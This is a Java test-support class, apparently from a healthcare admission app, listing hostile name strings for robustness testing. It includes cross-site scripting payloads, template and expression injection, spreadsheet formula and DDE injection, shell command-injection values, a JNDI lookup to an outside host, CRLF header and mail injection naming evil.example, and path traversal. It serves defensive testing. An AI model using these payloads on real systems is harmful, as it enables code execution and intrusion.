package health.admit.support;

import java.util.List;

/**
 * Names that anybody may give an application, and that break careless programs.
 */
public final class HostileNames {

	public static final List<String> ALL = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
			"'-alert(1)-'", "</title><script>alert(1)</script>", "{{7*7}}", "[[${7*7}]]",
			"__${T(java.lang.Runtime).getRuntime()}__::.x", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1",
			"\r=1", "\n=1", "\u0000=1", "  =1", "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(1)", "\uFEFF=1",
			"\u200B=1", "x;=1+1", "x,=1+1", "x\",\"=1+1", "\"=1+1", "\"\"=1", "x\"\n=1+1", "$(touch X)", "`touch X`",
			"'; touch X; '", "${jndi:ldap://x.example/a}", "%{if}", "x\r\nSet-Cookie: a=b", "x\r\nBcc: e@evil.example",
			"x\r\n.\r\nMAIL FROM:<a@evil.example>", "nul\u0000byte", "\u202Eexe.pdf", "zero\u200Dwidth",
			"\uD83D\uDE80\uD83C\uDFE5", "lone\uD83D", "z" + "\u0301".repeat(200), "L" + "o".repeat(4000) + "ng", "   ",
			"../../etc/passwd", "CON", "a;b,c", "BEGIN:VEVENT", "x\r\nEND:VEVENT\r\nBEGIN:VEVENT",
			"x\\nEND:VEVENT\\nBEGIN:VEVENT", "\\N{BULLET}", "back\\slash\\", "null", "undefined", "NaN",
			"\u05D1\u05D9\u05EA \u05D7\u05D5\u05DC\u05D9\u05DD", "\u0131\u0130iI", "javascript:alert(1)",
			"data:text/html,<script>alert(1)</script>", "line\u2028separator", "\uFFFE\uFFFF");

	private HostileNames() {
	}

}
